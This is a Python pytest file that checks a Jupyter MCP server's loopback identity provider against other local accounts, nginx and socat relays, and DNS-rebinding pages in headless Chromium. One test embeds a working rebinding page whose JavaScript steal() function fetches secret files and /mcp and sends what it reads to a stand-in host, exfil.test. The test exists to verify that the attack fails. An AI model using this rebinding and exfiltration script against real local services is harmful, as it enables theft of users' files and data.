"""The box's identity provider against a real server: the deployment gets in without the token to
/mcp and to what Open WebUI's code execution does, and to nothing else; nobody else gets in by the
box's address: not a browser's page under a rebound name, not a relay, not another local account.

The server runs `DeploymentIdentityProvider` with the loopback as its deployment (the local box's
setting); the relays run in front of it on this machine, their clients in another network
namespace (another machine, as the box sees it)."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import threading
import time
import uuid
from contextlib import asynccontextmanager, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx
import httpx2
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from jupyter_mcp.client import connect
from jupyter_mcp.testing import LiveServer, call, free_port
from jupyter_mcp.testing.box import probe
from jupyter_mcp.testing.sibling import run_code
from jupyter_mcp.testing.plugin import starts_process

pytestmark = pytest.mark.live

# As the box runs it: Jupyter's own Host check is off (the box listens on 0.0.0.0, where Jupyter
# allows remote access), so every refusal here is the provider's.
PROVIDER = ["--ServerApp.identity_provider_class=jupyter_mcp.deployment.DeploymentIdentityProvider",
            "--DeploymentIdentityProvider.trusted_networks=loopback", "--ServerApp.allow_remote_access=True"]
SECRET = "the-secret-" + uuid.uuid4().hex
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync"]

# What nobody may reach without the token, the deployment included (method, path below the base URL).
CLOSED = [("GET", "api/terminals"), ("POST", "api/terminals"), ("GET", "api/contents"),
          ("GET", "api/contents/secret.txt"), ("GET", "files/secret.txt"), ("GET", "api/sessions"),
          ("POST", "api/sessions"), ("GET", "api/kernels"), ("GET", "lab"), ("GET", "lab/tree/secret.txt"),
          ("GET", "api/kernelspecs")]


def start_box(base: Path, port: int | None = None, args: list[str] | None = None) -> LiveServer:
    server = LiveServer(base, args=[*PROVIDER, *(args or [])])
    if port is not None:
        server.port = port
    (server.root / "secret.txt").write_text(SECRET)
    return server.start()


@pytest.fixture(scope="module")
@starts_process
def box(tmp_path_factory):
    server = start_box(tmp_path_factory.mktemp("box"), args=["--JupyterMCPApp.max_sessions_per_user=2"])
    yield server
    server.stop()


def refused(response: httpx.Response) -> bool:
    """A request Jupyter did not let in: 403, or a page's redirect to the login."""
    login = response.status_code in (302, 303) and "/login" in response.headers.get("Location", "")
    return (response.status_code == 403 or login) and SECRET not in response.text


def terminals(server: LiveServer) -> list:
    return httpx.get(server.url + "api/terminals", headers=server.headers).json()


# -- what the deployment gets --------------------------------------------------------------------

async def test_the_deployment_uses_mcp_and_runs_code_as_open_webui_does_with_no_token(box):
    async with connect(box.mcp_url) as client:  # no token
        assert "cell_execute" in [t.name for t in (await client.list_tools()).tools]
        assert "notebooks" in await call(client, "notebook_list")
    assert await run_code(box.url.rstrip("/"), "print(6 * 7)") == "42\n"  # as Open WebUI does, no token
    kernels = httpx.get(box.url + "api/kernels", headers=box.headers).json()
    assert kernels == []  # shut down, as Open WebUI does after each run
    assert "let in without a token, as deployment@127.0.0.1" in box.log()


def test_without_the_token_the_deployment_reaches_nothing_else(box):
    for method, path in CLOSED:
        response = httpx.request(method, box.url + path, json={} if method == "POST" else None)
        assert refused(response), (method, path, response.status_code, response.text[:200])
    assert terminals(box) == []  # no terminal was opened
    with_token = httpx.get(box.url + "files/secret.txt", headers=box.headers)
    assert with_token.status_code == 200 and with_token.text == SECRET  # the token still opens everything


NOBODY_PROBE = """
import json, sys, urllib.request, urllib.error
base, out = sys.argv[1], []
for method, path in json.loads(sys.argv[2]):
    request = urllib.request.Request(base + path, method=method, data=b"{}" if method == "POST" else None,
                                     headers={"Content-Type": "application/json"})
    opener = urllib.request.build_opener(type("NoRedirect", (urllib.request.HTTPRedirectHandler,),
                                              {"redirect_request": lambda *a, **k: None}))
    try:
        with opener.open(request, timeout=30) as answer:
            out.append([method, path, answer.status, answer.read().decode(errors="replace")])
    except urllib.error.HTTPError as error:
        out.append([method, path, error.code, error.headers.get("Location") or error.read().decode(errors="replace")])
print(json.dumps(out))
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="running as another account needs root")
def test_another_local_account_gets_no_terminal_and_no_file(box):
    """uid 65534 on the box's machine: it reaches the loopback like the deployment, and gets
    /mcp (the machine is inside the deployment, as the README says), but no terminal, no file,
    no contents and no page."""
    setpriv = shutil.which("setpriv")
    done = subprocess.run([setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c",
                           NOBODY_PROBE, box.url, json.dumps(CLOSED + [("POST", "mcp")])],
                          capture_output=True, text=True, timeout=120, cwd="/")
    assert done.returncode == 0, done.stderr
    seen = {(m, p): (status, body) for m, p, status, body in json.loads(done.stdout)}
    for key in CLOSED:
        status, body = seen[key]
        assert status == 403 or (status in (302, 303) and "/login" in body), (key, status, body[:200])
        assert SECRET not in body
    assert seen[("POST", "mcp")][0] in (400, 406)  # let in: the MCP app itself answers the bare request
    assert terminals(box) == []


# -- two siblings are two principals ----------------------------------------------------------------

@asynccontextmanager
async def sibling_at(url: str, address: str):
    """An MCP client with no token whose connections come from ``address`` (a loopback address)."""
    async with httpx2.AsyncClient(transport=httpx2.AsyncHTTPTransport(local_address=address),
                                  timeout=httpx2.Timeout(30, read=300)) as http:
        async with Client(streamable_http_client(url, http_client=http)) as client:
            yield client


async def test_each_sibling_is_its_own_principal(box):
    """Siblings at two addresses: one holding every session it may hold does not lock the other
    out, and neither sees the other's tasks."""
    from jupyter_mcp.client import Tasks

    async with sibling_at(box.mcp_url, "127.0.0.2") as first, sibling_at(box.mcp_url, "127.0.0.2") as second:
        await call(first, "notebook_list")
        await call(second, "notebook_list")
        async with sibling_at(box.mcp_url, "127.0.0.3") as other:  # the cap is 2 sessions per principal
            await call(other, "notebook_list")
            task = await Tasks(first).submit("notebook_list", {})
            with pytest.raises(Exception, match="no such task"):
                await Tasks(other).get(task["taskId"])
            assert (await Tasks(first).get(task["taskId"]))["taskId"] == task["taskId"]
    log = box.log()
    assert "as deployment@127.0.0.2" in log and "as deployment@127.0.0.3" in log


# -- a browser's page under a rebound name ---------------------------------------------------------

class Recorder(BaseHTTPRequestHandler):
    """Answers every request with the page (or 404) and records what the browser sent."""

    seen: list[tuple[str, str, list[tuple[str, str]]]] = []
    page = b""

    def do_GET(self) -> None:
        Recorder.seen.append((self.command, self.path, list(self.headers.items())))
        body = self.page if self.path == "/" else b"not here"
        self.send_response(200 if self.path == "/" else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Cache-Control", "no-store")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:
        pass


@contextmanager
def serving(handler, port: int):
    server = ThreadingHTTPServer(("127.0.0.1", port), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@asynccontextmanager
async def chromium(tmp_path, *names: str):
    """Debian's Chromium, headless, resolving ``names`` to 127.0.0.1 as a rebound DNS name would."""
    from playwright.async_api import async_playwright

    rules = ", ".join(f"MAP {name} 127.0.0.1" for name in names)
    async with async_playwright() as p:
        context = await p.chromium.launch_persistent_context(
            str(tmp_path / "chromium-profile"), executable_path=CHROMIUM, headless=True,
            args=[*FLAGS, f"--host-resolver-rules={rules}"])
        page = context.pages[0] if context.pages else await context.new_page()
        yield page
        await context.close()


BROWSER_PAGE = """<!doctype html><title>a page</title>
<img src="/files/secret.txt"><script src="/api/contents/secret.txt"></script>
<script>fetch('/files/secret.txt', {cache: 'no-store'}); fetch('/mcp', {cache: 'no-store'});</script>"""

needs_chromium = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Chromium is not installed")


@needs_chromium
async def test_a_browsers_exact_requests_to_a_rebound_name_get_nothing(box, tmp_path):
    """Chromium's own requests from a page on an http name that is not localhost (a navigation,
    an <img>, a <script>, same-origin fetches), recorded as it sent them, replayed to the box
    with the rebound name in Host: none gets in, and none reads the secret."""
    port = free_port()
    Recorder.seen, Recorder.page = [], BROWSER_PAGE.encode()
    with serving(Recorder, port):
        async with chromium(tmp_path, "rebind.test") as page:
            await page.goto(f"http://rebind.test:{port}/", wait_until="commit")
            for _ in range(200):
                if len({path for _, path, _ in Recorder.seen}) >= 4:
                    break
                await asyncio.sleep(0.05)
            await page.goto(f"http://rebind.test:{port}/files/secret.txt", wait_until="commit")
    paths = {path for _, path, _ in Recorder.seen}
    assert {"/", "/files/secret.txt", "/api/contents/secret.txt", "/mcp"} <= paths, paths
    for method, path, headers in Recorder.seen:
        sent = [(k, f"rebind.test:{box.port}" if k.lower() == "host" else v) for k, v in headers]
        response = httpx.request(method, f"{box.url.rstrip('/')}{path}", headers=sent)
        if path not in ("/", "/favicon.ico"):  # the rest needs a user (the icon and the root need none)
            assert refused(response), (path, response.status_code, response.text[:200])
        assert SECRET not in response.text
    assert terminals(box) == []


@needs_chromium
async def test_a_rebinding_page_in_chromium_cannot_read_the_box(tmp_path):
    """DNS rebinding, played out: a page loads from rebind.test:P (the attacker's server), then the
    name's port P is the box (as when the name is rebound to 127.0.0.1); the page keeps fetching
    /files/secret.txt, /api/contents and /mcp same-origin and sends what it reads to a third host.
    What reaches the third host is the box's refusals, never the secret."""
    port, exfil_port = free_port(), free_port()
    reports: list[dict] = []

    class Exfil(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            reports.append({k: v[0] for k, v in parse_qs(urlsplit(self.path).query).items()})
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    Recorder.seen, Recorder.page = [], f"""<!doctype html><title>rebind</title><script>
async function steal() {{
  for (const path of ['/files/secret.txt', '/api/contents/secret.txt', '/mcp']) {{
    let status = 'error', body = '';
    try {{
      const r = await fetch(path, {{cache: 'no-store', redirect: 'manual'}});
      status = r.type === 'opaqueredirect' ? 'redirect' : r.status; body = await r.text();
    }}
    catch (e) {{ body = String(e); }}
    new Image().src = 'http://exfil.test:{exfil_port}/r?path=' + encodeURIComponent(path) + '&status=' + status
        + '&body=' + encodeURIComponent(body.slice(0, 300));
  }}
}}
setInterval(steal, 300);
</script>""".encode()
    with serving(Exfil, exfil_port):
        async with chromium(tmp_path, "rebind.test", "exfil.test") as page:
            with serving(Recorder, port):
                await page.goto(f"http://rebind.test:{port}/")
                await page.wait_for_function("() => document.title === 'rebind'")
            server = start_box(tmp_path / "rebound", port=port)  # the name now leads to the box
            try:
                for _ in range(300):
                    answered = {r["path"] for r in reports if r.get("status") not in (None, "error", "404")}
                    if answered >= {"/files/secret.txt", "/api/contents/secret.txt", "/mcp"}:
                        break
                    await asyncio.sleep(0.1)
                else:
                    raise AssertionError(f"the page's requests never reached the box: {reports[-6:]}")
                log = server.log()
            finally:
                server.stop()
    from_box = [r for r in reports if r.get("status") not in (None, "error", "404")]
    assert all(SECRET not in r.get("body", "") for r in reports)
    assert all(r["status"] in ("403", "redirect") for r in from_box), from_box  # refused, or sent to the login
    assert "let in without a token" not in log


# -- relays ----------------------------------------------------------------------------------------

NGINX = """worker_processes 1; daemon off; user root; pid {dir}/nginx.pid; error_log {dir}/error.log;
events {{}}
http {{
    access_log off;
    client_body_temp_path {dir}/body; proxy_temp_path {dir}/proxy; fastcgi_temp_path {dir}/fastcgi;
    uwsgi_temp_path {dir}/uwsgi; scgi_temp_path {dir}/scgi;
    server {{
        listen {listen};
        location / {{ proxy_pass http://127.0.0.1:{port}; }}
    }}
}}
"""


@contextmanager
def relay(argv: list[str], address: str, port: int):
    proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        for _ in range(100):
            if proc.poll() is not None:
                raise AssertionError(f"{argv[0]} exited: {proc.stderr.read().decode()}")
            try:
                with httpx.Client() as http:
                    http.get(f"http://{address}:{port}/", timeout=1)
                break
            except httpx.HTTPError:
                time.sleep(0.1)
        yield
    finally:
        proc.terminate()
        proc.wait(10)


NS_GET = """
import json, sys, urllib.request, urllib.error
opener = urllib.request.build_opener(type("NoRedirect", (urllib.request.HTTPRedirectHandler,),
                                          {"redirect_request": lambda *a, **k: None}))
request = urllib.request.Request(sys.argv[1], method=sys.argv[2], data=b"{}" if sys.argv[2] == "POST" else None)
try:
    with opener.open(request, timeout=30) as answer:
        print(json.dumps({"status": answer.status, "body": answer.read(300).decode(errors="replace")}))
except urllib.error.HTTPError as error:
    print(json.dumps({"status": error.code, "body": error.headers.get("Location") or error.read(300).decode(errors="replace")}))
"""


def through(outside, url: str, method: str = "GET") -> dict:
    done = outside.run("/usr/bin/python3", "-c", NS_GET, url, method)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def relay_lets_nobody_in(box, outside, port: int) -> None:
    """From the other namespace through the relay: no token is refused (MCP, a terminal, a file),
    the token gets in."""
    url = f"http://{outside.host}:{port}/"
    answer = probe(outside.run, url + "mcp")
    assert answer["status"] == 403 and "token" in answer["body"], answer
    for method, path in (("POST", "api/terminals"), ("GET", "files/secret.txt"), ("POST", "api/kernels")):
        answer = through(outside, url + path, method)
        login = answer["status"] in (302, 303) and "/login" in answer["body"]
        assert (answer["status"] == 403 or login) and SECRET not in answer["body"], (path, answer)
    assert probe(outside.run, url + "mcp", {"Authorization": f"token {box.token}"})["status"] == 200
    assert terminals(box) == []
    assert f"{outside.address} let in" not in box.log()


@pytest.mark.skipif(not (shutil.which("nginx") or Path("/usr/sbin/nginx").exists()), reason="nginx is not installed")
def test_nginx_with_its_default_proxy_pass_lets_nobody_in(box, outside, tmp_path):
    port = free_port()
    conf = tmp_path / "nginx.conf"
    conf.write_text(NGINX.format(dir=tmp_path, listen=f"{outside.host}:{port}", port=box.port))
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    with relay([nginx, "-c", str(conf), "-p", str(tmp_path)], outside.host, port):
        relay_lets_nobody_in(box, outside, port)


@pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")
def test_a_socat_relay_lets_nobody_in(box, outside):
    port = free_port()
    with relay(["socat", f"TCP-LISTEN:{port},bind={outside.host},fork,reuseaddr", f"TCP:127.0.0.1:{box.port}"],
               outside.host, port):
        relay_lets_nobody_in(box, outside, port)
